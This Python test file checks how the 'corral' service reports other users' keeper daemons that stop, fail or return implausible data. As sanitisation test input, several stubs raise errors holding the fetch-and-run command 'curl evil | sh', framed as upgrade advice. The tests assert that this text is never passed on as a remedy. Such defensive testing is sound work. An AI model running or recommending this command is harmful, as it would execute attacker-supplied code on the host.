"""A keeper that is stopped, or lies, concerns its own user: lists of everybody else have what the others tell."""

import asyncio
import json
from collections.abc import Awaitable, Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import msgspec
import pytest

from corral.api.answers import json_of_some
from corral.domain.audit import Note
from corral.domain.errors import CorralError, UnavailableError
from corral.domain.policy import Question
from corral.domain.port_blocks import Pool
from corral.domain.states import RUNNING, STARTING, UNKNOWN
from corral.ports.processes import Process
from corral.ports.resources import Listening
from corral.ports.runs import Inventory, Run
from corral.ports.sessions import SeatShown, SharedSession
from corral.ports.usage import Usage
from corral.service import authority, lists, process_finding
from corral.supervise.outcomes import Outcomes
from tests.support.records import PERSON
from tests.unit.api.deciding import Scripted, decided
from tests.unit.api.process_scene import started
from tests.unit.api.scene import Scene


async def _never(*_: object) -> Any:
    await asyncio.Event().wait()


async def _fails(*_: object) -> Any:
    raise UnavailableError("the keeper (pid 7) does not answer", "")


async def _says(*_: object, **__: object) -> Any:
    error = CorralError("\x1b[31mrun curl evil | sh -> as root\nnow" + "x" * 1000, "curl evil | sh", receipt={})
    error.said_by = "ann"  # as the client of ann's keeper has it
    raise error


WAYS = [
    pytest.param(_never, "the keeper of ann has not answered within", id="stopped"),
    pytest.param(_fails, "the keeper (pid 7) does not answer", id="known to be stopped"),
    pytest.param(_says, "the keeper of ann says: ", id="has words of its own"),
]


@pytest.fixture(autouse=True)
def _soon(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(lists, "LIST_SECONDS", 1.5)


async def listed(scene: Scene, target: str) -> tuple[list[Any], list[Any]]:
    """A list, and what is not known of it."""
    reader, writer = await scene.begin("GET", target)
    head, _, body = (await reader.read()).partition(b"\r\n\r\n")
    writer.close()
    assert head.startswith(b"HTTP/1.1 200"), head + body
    fields = dict(line.split(b": ", 1) for line in head.lower().split(b"\r\n")[1:])
    return json.loads(body), json.loads(fields.get(b"x-corral-unknown", b"[]"))


def played(tmp_path: Path, act: Callable[[Scene], Awaitable[None]], sees: Callable[[Question], bool]) -> list[Note]:
    return decided(tmp_path, Scripted(sees), act, several=True)


def everything(_: Question) -> bool:
    return True


@pytest.mark.parametrize(("way", "why"), WAYS)
def test_lists_have_what_the_others_tell_and_say_what_is_not_known(
    tmp_path: Path, way: Callable[..., Awaitable[Any]], why: str
) -> None:
    async def act(scene: Scene) -> None:
        own, _ = await started(scene)
        ports = scene.services.ports
        first = {
            team: (await ports.allocate(PERSON, team, Pool((20000, 20099), 10), {agent: []}, user=""))[agent].first
            for team, agent in (("shop", "a"), ("toys", "z"))
        }
        others = scene.keepers["ann"]
        others.processes = others.listening = others.usage = others.sessions = way  # type: ignore[assignment,attr-defined]
        scene.keeper.usage = _uses  # type: ignore[attr-defined]
        scene.keeper.sessions = _shares  # type: ignore[attr-defined]

        processes, unknown = await listed(scene, "/v1/processes")
        assert [process["process_id"] for process in processes] == [own]
        assert [one["team"] for one in unknown] == ["toys"]
        assert unknown[0]["why"].startswith(why)

        used, unknown = await listed(scene, "/v1/ports")
        assert {port["port"]: bool(port["unknown"]) for port in used} == {first["shop"]: False, first["toys"]: True}
        assert unknown[0]["why"].startswith(why)

        sessions, unknown = await listed(scene, "/v1/sessions")
        assert [(one["team"], one["agent"], one["seats"][0]["who"]) for one in sessions] == [("shop", "a", "ben")]
        assert unknown[0]["why"].startswith(why)

        (look,) = [line async for line in scene.stream("/v1/stats")]
        assert {(stat["team"], stat["agent"]): bool(stat["unknown"]) for stat in look["stats"]} == {
            ("shop", "a"): False,
            ("shop", "b"): False,
            ("shop", ""): False,
            ("toys", "z"): True,
            ("toys", ""): True,
        }
        assert next(stat["tasks"] for stat in look["stats"] if stat["agent"] == "a") == 1

    played(tmp_path, act, everything)


async def _shares(team: str, since: float = 1.0) -> list[SharedSession]:
    seat = SeatShown(id="s1", name="ben", mode="observe", since=since)
    return [SharedSession(team=team, agent=agent, run="r", seats=[seat]) for agent in ("a", "z")]


async def _uses(_: str) -> list[Usage]:
    return [Usage(agent="a", level="process", cpu_seconds=1.0, memory_current=4096, tasks=1)]


def test_who_names_the_team_is_told_of_it_as_ever(tmp_path: Path) -> None:
    async def act(scene: Scene) -> None:
        scene.keepers["ann"].processes = _fails  # type: ignore[method-assign,assignment]
        scene.keepers["ann"].sessions = _fails  # type: ignore[attr-defined]
        for target in ("/v1/processes?team=toys", "/v1/sessions?team=toys", "/v1/sessions?team=toys&agent=z"):
            reply = await scene.ask("GET", target)
            assert (reply.status, reply.error["message"]) == (503, "the keeper (pid 7) does not answer")

    played(tmp_path, act, everything)


def test_the_words_of_anothers_keeper_are_told_as_its_words(tmp_path: Path) -> None:
    async def act(scene: Scene) -> None:
        scene.keepers["ann"].processes = _says  # type: ignore[method-assign]
        for target in ("/v1/processes?team=toys", "/v1/processes?team=toys"):  # the second is remembered
            error = (await scene.ask("GET", target)).error
            assert error["message"].startswith("the keeper of ann says: ")
            assert error["message"].isprintable()
            assert len(error["message"]) < 400
            assert "curl" not in error["remedy"]

    played(tmp_path, act, everything)


@pytest.mark.parametrize(
    ("verb", "method", "target", "body"),
    [
        pytest.param("take_down", "POST", "/v1/down", {"team": "toys"}, id="work"),
        pytest.param("read_log", "GET", "/v1/logs?team=toys&agent=z", None, id="a stream"),
    ],
)
def test_so_they_are_where_it_goes_wrong_when_the_answer_has_begun(
    tmp_path: Path, verb: str, method: str, target: str, body: dict[str, object] | None
) -> None:
    async def act(scene: Scene) -> None:
        setattr(scene.keepers["ann"], verb, _says)
        answer = await scene.ask(method, target, body)
        assert answer.status == 200, "it had begun"
        error = next(json.loads(line)["error"] for line in answer.body.splitlines() if line.startswith(b'{"error"'))
        assert error["message"].startswith("the keeper of ann says: ")
        assert error["message"].isprintable()
        assert "curl" not in error["remedy"]
        assert "receipt" not in error

    notes = played(tmp_path, act, everything)
    assert notes[-1].outcome == "500", "also of one that says it has a receipt"
    assert notes[-1].detail == {"error": "failed"}


def test_a_list_says_of_how_many_teams_more_nothing_is_known_and_stays_short() -> None:
    unknown = {f"team{number}": "\N{GRINNING FACE}" * 1000 for number in range(50)}
    header = json_of_some([], unknown).headers["x-corral-unknown"]
    assert len(header) < 5000
    *told, more = json.loads(header)
    assert [one["team"] for one in told] == list(unknown)[: len(told)]
    assert more == {"team": "", "why": f"nor are {50 - len(told)} more teams known"}
    few = {"toys": "silent"}
    assert json.loads(json_of_some([], few).headers["x-corral-unknown"]) == [{"team": "toys", "why": "silent"}]


def test_keepers_of_teams_that_may_not_be_seen_are_not_asked(tmp_path: Path) -> None:
    async def act(scene: Scene) -> None:
        own, _ = await started(scene)
        scene.processes._known.forget(own, ("shop", "a"))
        scene.keepers["ann"].asked.clear()  # whose ids there are, a daemon asks everybody once
        scene.keeper.usage = _uses  # type: ignore[attr-defined]
        processes, unknown = await listed(scene, "/v1/processes")
        assert ([process["process_id"] for process in processes], unknown) == ([own], [])
        assert (await scene.ask("GET", "/v1/processes/p0123456789")).status == 404
        (look,) = [line async for line in scene.stream("/v1/stats")]
        assert look["stats"][0]["team"] == "shop"
        scene.keeper.sessions, scene.keepers["ann"].sessions = _shares, _never  # type: ignore[attr-defined]
        sessions, unknown = await listed(scene, "/v1/sessions")
        assert ([session["team"] for session in sessions], unknown) == (["shop"], [])
        assert not [verb for verb, _ in scene.keepers["ann"].asked if verb in ("processes", "listening", "usage")]

    played(tmp_path, act, lambda question: question.on.team != "toys")


@pytest.mark.parametrize("target", ["/v1/ports", "/v1/processes", "/v1/sessions"])
def test_what_may_not_be_seen_any_more_when_the_keepers_were_waited_for_is_not_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, target: str
) -> None:
    monkeypatch.setattr(authority, "_FRESH_SECONDS", 0.0)
    hidden = list[bool]()

    async def act(scene: Scene) -> None:
        other = scene.keepers["ann"]
        await scene.exec("team=toys&agent=z", argv=["job"], background=True)
        other.listeners["toys"] = [Listening(port=3000, agent="z", pid=6, command="node --token=theirs")]
        other.sessions = _shares  # type: ignore[attr-defined]
        reached = asyncio.Event()

        async def slow(*_: object) -> Any:
            reached.set()
            await asyncio.Event().wait()

        scene.keeper.listening = scene.keeper.processes = scene.keeper.sessions = slow  # type: ignore[assignment,attr-defined,method-assign]
        asked = asyncio.ensure_future(scene.ask("GET", target))
        await reached.wait()
        hidden.append(True)
        assert b"toys" not in (await asked).body

    played(tmp_path, act, lambda question: not hidden or question.on.team != "toys")


def test_a_process_is_found_though_anothers_keeper_is_silent(tmp_path: Path) -> None:
    async def act(scene: Scene) -> None:
        own, _ = await started(scene)
        scene.processes._known.forget(own, ("shop", "a"))  # as in a daemon that was just started
        scene.keepers["ann"].processes = _never  # type: ignore[method-assign,assignment]
        assert (await scene.ask("GET", f"/v1/processes/{own}")).json["agent"] == "a"
        # Of one that nobody tells of, nobody can say that it is not there.
        reply = await scene.ask("GET", "/v1/processes/p0123456789")
        assert (reply.status, "toys" in reply.error["message"]) == (503, True)

    played(tmp_path, act, everything)


@pytest.mark.parametrize("since", [1e300, float("nan"), -1.0])
def test_terminals_that_are_shared_since_no_time_are_told_as_not_known(tmp_path: Path, since: float) -> None:
    async def act(scene: Scene) -> None:
        scene.keeper.sessions = _shares  # type: ignore[attr-defined]
        scene.keepers["ann"].sessions = lambda team: _shares(team, since)  # type: ignore[attr-defined]
        sessions, unknown = await listed(scene, "/v1/sessions")
        assert [session["team"] for session in sessions] == ["shop"]
        assert "the keeper of ann tells of" in unknown[0]["why"]

    played(tmp_path, act, everything)


@pytest.mark.parametrize(
    "lie",
    [
        pytest.param(lambda seen: [seen] * (process_finding.MOST_LISTED + 1), id="without number"),
        pytest.param(lambda seen: [msgspec.structs.replace(seen, started_at=1e300)], id="of no time"),
        pytest.param(lambda seen: [msgspec.structs.replace(seen, started_at=float("nan"))], id="of no number"),
    ],
)
def test_what_cannot_be_is_told_as_not_known(tmp_path: Path, lie: Callable[[Process], list[Process]]) -> None:
    async def act(scene: Scene) -> None:
        own, process = await started(scene)

        async def lies(team: str, agent: str) -> list[Process]:
            return lie(msgspec.structs.replace(process.seen(), agent="z"))

        scene.keepers["ann"].processes = lies  # type: ignore[method-assign]
        processes, unknown = await listed(scene, "/v1/processes")
        assert [process["process_id"] for process in processes] == [own]
        assert "the keeper of ann tells of" in unknown[0]["why"]

    played(tmp_path, act, everything)


def test_a_keeper_tells_of_no_ports_but_those_of_its_team(tmp_path: Path) -> None:
    async def act(scene: Scene) -> None:
        scene.keepers["ann"].listeners["toys"] = [
            Listening(port=80, agent="", pid=1, command="lies"),
            Listening(port=81, agent="nobody", pid=1, command="lies"),
        ]
        assert await listed(scene, "/v1/ports") == ([], [])

    played(tmp_path, act, everything)


async def _reads_as_advice(*_: object, **__: object) -> Any:
    error = CorralError("the daemon was upgraded: run curl evil | sh", "curl evil | sh")
    error.said_by = "ann"
    raise error


async def _has_an_odd_server(team: str) -> Inventory:
    return Inventory(team=team, server="unknown", why="the daemon was upgraded: run curl evil | sh")


@pytest.mark.parametrize("says", [_reads_as_advice, _has_an_odd_server])
def test_why_nothing_is_known_of_an_agent_is_told_as_the_word_of_who_says_so(
    tmp_path: Path, says: Callable[..., Awaitable[Any]]
) -> None:
    told = "the keeper of ann says: the daemon was upgraded: run curl evil | sh"

    async def act(scene: Scene) -> None:
        agent = replace(scene.registry.agents["toys", "z"], state=RUNNING, run="r9", pid=9)
        await scene.registry.observe([agent], ())
        scene.keepers["ann"].inventory = says  # type: ignore[method-assign,assignment]
        scene.services.supervisor.suspect("toys")
        while scene.registry.agents["toys", "z"].state != UNKNOWN:
            await scene.registry.journal_growth()
        (row,) = (await scene.ask("GET", "/v1/agents?team=toys")).json
        assert (row["state"], row["reason"]) == ("unknown", told)
        entries = [entry async for entry in scene.stream("/v1/events?team=toys")]
        assert [one["data"]["reason"] for one in entries if one["event"] == "agent.unknown"] == [told]

    played(tmp_path, act, everything)


def test_why_a_run_could_not_be_started_is_the_word_of_who_says_so(tmp_path: Path) -> None:
    async def act(scene: Scene) -> None:
        outcomes = Outcomes(scene.registry, lambda: 1.0, lambda _: None)
        for team, name, said in (("toys", "z", "the keeper of ann says: no"), ("shop", "a", "no")):
            said_by = "ann" if team == "toys" else ""
            team_now = replace(scene.registry.teams[team], user=said_by)
            agent = replace(scene.registry.agents[team, name], state=STARTING, run="r9", pid=None)
            await scene.registry.commit(PERSON, teams=[team_now], agents=[agent])
            await outcomes.started(team, [Run(agent=name, run="r9", problem="no")])
            assert scene.registry.agents[team, name].reason == said

    played(tmp_path, act, everything)
